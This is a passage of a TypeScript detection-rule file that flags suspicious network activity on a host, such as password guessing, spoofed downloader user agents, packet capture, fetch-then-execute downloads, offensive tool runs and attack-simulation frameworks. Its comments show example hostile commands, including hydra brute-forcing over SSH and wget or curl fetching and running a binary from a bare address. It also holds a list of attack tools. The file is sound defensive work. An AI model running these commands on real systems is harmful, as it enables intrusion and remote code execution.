  if (code === null) return undefined;
  const host = code.slice(1).find((h) => h !== undefined) ?? '';
  return { text: code[0].slice(0, 160), fromIp: host === '' || host === '*' || isIpLiteral(host) };
}

/** `hydra -l root -P words.txt ssh://host`: password guessing against a network service. */
const bruteForceLogin: Rule = {
  name: 'brute-force-login',
  category: 'suspicious_network',
  severity: 'high',
  techniques: ['T1110.001', 'T1110.003'],
  match: (s) => {
    const inv = invocationsOf(s, 'hydra', 'medusa', 'ncrack', 'patator', 'crackmapexec', 'netexec', 'nxc').find((i) => i.args.some((a) => /^-[PpUuCL]$|^--?pass(?:word)?s?(?:-file)?$/.test(a)));
    return inv ? { tool: inv.program, arguments: inv.args.join(' ').slice(0, 160) } : undefined;
  },
};

/**
 * `curl -A HttpBrowser/1.0`: a downloader posing as something else. Scripts keep curl's own agent or send a modern
 * browser's (`Mozilla/5.0 ...`); malware families' agents and hand-made ones stand out.
 */
const spoofedUserAgent: Rule = {
  name: 'downloader-user-agent-spoofed',
  category: 'suspicious_network',
  severity: 'medium',
  techniques: ['T1071.001'],
  match: (s) => {
    for (const inv of invocationsOf(s, 'curl', 'wget')) {
      const i = inv.args.findIndex((a) => a === '-A' || a === '-U' || a === '--user-agent');
      const agent = i >= 0 ? inv.args[i + 1] : inv.args.find((a) => a.startsWith('--user-agent='))?.slice('--user-agent='.length);
      const remote = urlsIn(inv.args.join(' ')).some((u) => !isLoopback(u.host)) || inv.args.some((a) => /^[\w-]+(?:\.[\w-]+)+(?:\/\S*)?$/.test(a));
      // A script keeps its tool's own agent or sends a modern browser's; curl calling itself Wget (or the reverse) is a disguise.
      const own = inv.program === 'curl' ? /^curl\//i : /^Wget\//i;
      if (agent !== undefined && remote && !own.test(agent) && !/^(?:Mozilla\/5\.0|kube-probe\/|Prometheus\/|Go-http-client\/)/.test(agent)) return { tool: inv.program, userAgent: agent.slice(0, 80) };
    }
    return undefined;
  },
};

/** Protocols that carry passwords or data in clear, by port or name, in a capture filter. */
const CLEARTEXT_PROTOCOL = /^(?:21|23|25|80|110|143|389|513|514|1433|3306|5432|6379|8080|ftp|telnet|smtp|http|pop3?|imap|ldap)$/i;
/**
 * `tcpdump -i eth0`, `tshark -i any -w x.pcap`, `tcpdump -A port 80`: packets captured on the host (T1040): everything,
 * to a file, payloads printed, or a cleartext protocol's. Everyday debugging too, hence low; a capture narrowed by a
 * filter to other traffic (`tcpdump -i flannel.1 -nn port 8472 -c 100`) is debugging a flow and stays quiet.
 */
const packetCapture: Rule = {
  name: 'packet-capture',
  category: 'suspicious_network',
  severity: 'low',
  techniques: ['T1040'],
  match: (s): Evidence | undefined => {
    const inv = invocationsOf(s, ...SNIFFERS).find((i) => !i.args.some((a) => /^(?:-r|--read-file|-D|--list-interfaces|-h|--help|--version|-v|-V)$/.test(a) || /^-[a-zA-Z]*r$/.test(a)) && (i.args.length > 0 || i.program !== 'tshark') && !isNarrowDebugCapture(i.args));
    return inv ? { tool: inv.program, arguments: inv.args.join(' ').slice(0, 120) } : undefined;
  },
};

/**
 * A capture filter narrowed to hosts, ports or non-TCP protocols (`tcp` alone takes every TCP payload), naming no
 * cleartext protocol, payloads not printed, and not written to a hidden drop location: debugging (`tcpdump -ni eno1 host
 * 10.20.0.22 and port 29500 -w /tmp/nccl.pcap`). In the blind draws, six benign captures were written this way and no
 * malicious one.
 */
function isNarrowDebugCapture(args: readonly string[]): boolean {
  const filter = args.filter((a, i) => !a.startsWith('-') && !/^-[a-zA-Z]*[icswWCGEFyBjJTVzZ]$/.test(args[i - 1] ?? '') || args[i - 1] === '-f').join(' ');
  const words = filter.split(/[\s()]+/).filter(Boolean);
  const selects = words.some((w) => /^(?:port|portrange|host|net|src|dst|icmp6?|arp|vxlan)$/.test(w));
  const prints = args.some((a) => /^-[a-zA-Z]*[AX]|^--(?:hex|ascii)/.test(a));
  const written = args.filter((_, i) => /^-[a-zA-Z]*w$|^--write$/.test(args[i - 1] ?? ''));
  const keptAside = written.some(isDisguisedDrop);
  return selects && !prints && !keptAside && !words.some((w) => CLEARTEXT_PROTOCOL.test(w));
}

/**
 * `wget http://203.0.113.5/x -O x; chmod +x x; ./x`, `curl -o y http://h/y && sh y`: a file fetched from a bare address,
 * over plain HTTP, from a drop box or a raw socket, then made executable or run (T1105). Installers from named HTTPS
 * hosts (`get_helm.sh`, `get.docker.com`) are not.
 */
const untrustedDownloadExecuted: Rule = {
  name: 'untrusted-download-executed',
  category: 'suspicious_network',
  severity: 'high',
  techniques: ['T1105', 'T1059.004'],
  match: (s): Evidence | undefined => {
    const fetch = invocationsOf(s, ...DOWNLOADERS, 'scp', 'tftp', 'ftp', 'lwp-download').find((inv) => {
      const url = urlsIn(inv.args.join(' ')).find((u) => !isLoopback(u.host));
      return url !== undefined && (isIpLiteral(url.host) || FILE_DROP_HOST.test(url.host) || (url.plainHttp && !/\.(?:local|lan|internal|home|corp)$/.test(url.host)));
    });
    if (!fetch) return undefined;
    const target = fetch.args.find((_, i) => /^(?:-o|-O|--output|--output-document)$/.test(fetch.args[i - 1] ?? '')) ?? baseName(urlsIn(fetch.args.join(' '))[0]?.url.replace(/[?#].*$/, '') ?? '');
    const name = baseName(target);
    const run = s.invocations.find((inv) => inv !== fetch && name !== '' && ((inv.program === 'chmod' && inv.args.some((a) => /x|^[0-7]?[0-7]*[1357][0-7]*$/.test(a)) && inv.args.some((a) => baseName(a) === name)) || baseName(inv.path) === name || ((SHELL_NAMES.has(inv.program) || INTERPRETERS.test(inv.program)) && inv.args.some((a) => baseName(a) === name))));
    return run ? { source: urlsIn(fetch.args.join(' '))[0]?.url.slice(0, 160) ?? '', runs: `${run.program} ${run.args.join(' ')}`.slice(0, 80) } : undefined;
  },
};

/** Attack frameworks and scanners with no use on a node but attacking others: Metasploit, Sliver, web fuzzers, Impacket. */
const OFFENSIVE_TOOLS = ['msfconsole', 'msfrpcd', 'sliver', 'sliver-client', 'sliver-server', 'havoc', 'merlin-agent', 'ps-empire', 'pupy', 'villain', 'sqlmap', 'nikto', 'gobuster', 'dirb', 'dirbuster', 'ffuf', 'wfuzz', 'feroxbuster', 'enum4linux', 'evil-winrm', 'kerbrute', 'bloodhound-python', 'nuclei', 'wpscan', 'commix', 'xsstrike', 'impacket-secretsdump', 'secretsdump.py', 'psexec.py', 'wmiexec.py', 'smbexec.py', 'kube-hunter', 'peirates', 'cdk'];
const offensiveTool: Rule = {
  name: 'offensive-tool-run',
  category: 'suspicious_network',
  severity: 'medium',
  techniques: ['T1588.002', 'T1595'],
  match: (s) => {
    const inv = invocationsOf(s, ...OFFENSIVE_TOOLS).find((i) => !i.args.some((a) => /^(?:-h|--help|--version|-V|version)$/.test(a)));
    return inv ? { tool: inv.program, arguments: inv.args.join(' ').slice(0, 120) } : undefined;
  },
};

/**
 * An adversary-emulation framework's test run on the host: Atomic Red Team's test material (its `atomics/T1055.009/...`
 * folders, scripts named for an ATT&CK technique) or Stratus Red Team's `detonate`/`warmup`. Sanctioned or not, an
 * attack technique is being executed on this node, and it is reported as such.
 */
const attackSimulation: Rule = {
  name: 'attack-simulation-run',
  category: 'suspicious_network',
  severity: 'medium',
  techniques: ['T1588.002'],
  match: (s): Evidence | undefined => {
    const words = s.invocations.flatMap((inv) => [inv.path, ...inv.args]);
    // Also a program named for the technique it tests (`t1040_linux_pcapdemo`).
    const named = s.invocations.map((inv) => inv.path).find((p) => /(?:^|\/)[Tt]\d{4}(?:[._]\d{3})?_[a-z]\w*$|\/T\d{4}(?:\.\d{3})?\/(?:bin|src)\//.test(p));
    const atomic = named ?? words.find((w) => /(?:^|\/)(?:AtomicRedTeam|atomic-red-team)\/|\/atomics\/T\d{4}(?:\.\d{3})?\/|(?:^|\/)T\d{4}(?:[.-]\d{3})?[\w.-]*\.(?:py|sh|go|c|cc|pl|rb|ps1)$/.test(w));
    if (atomic !== undefined) return { framework: 'Atomic Red Team', test: atomic.slice(0, 120) };
    const stratus = invocationsOf(s, 'stratus').find((inv) => /^(?:detonate|warmup|revert)$/.test(inv.args[0] ?? ''));
    return stratus ? { framework: 'Stratus Red Team', test: stratus.args.join(' ').slice(0, 120) } : undefined;
  },
};

export const SUSPICIOUS_NETWORK_RULES: readonly Rule[] = [
  offensiveTool, attackSimulation, packetCapture, untrustedDownloadExecuted, legacyRemoteClient, fetchedFromPublicAddress, rawSocketToPublicAddress,
  bruteForceLogin, spoofedUserAgent, netcatListener,
  netcatCommandRelay, reverseTunnel, networkScan, shellRawSocket, trafficInterception, downloadIntoTemp, untrustedPipeToShell,
  opensslTransport, whoisChannel, sshpassInline, anonymityNetwork, remoteAgentRegistered, sshToBareAddress, tunnelToolFetched, packageSourceAtAddress, hostsFileRedirect, remoteArchiveRead, clientOfBareAddress,
];
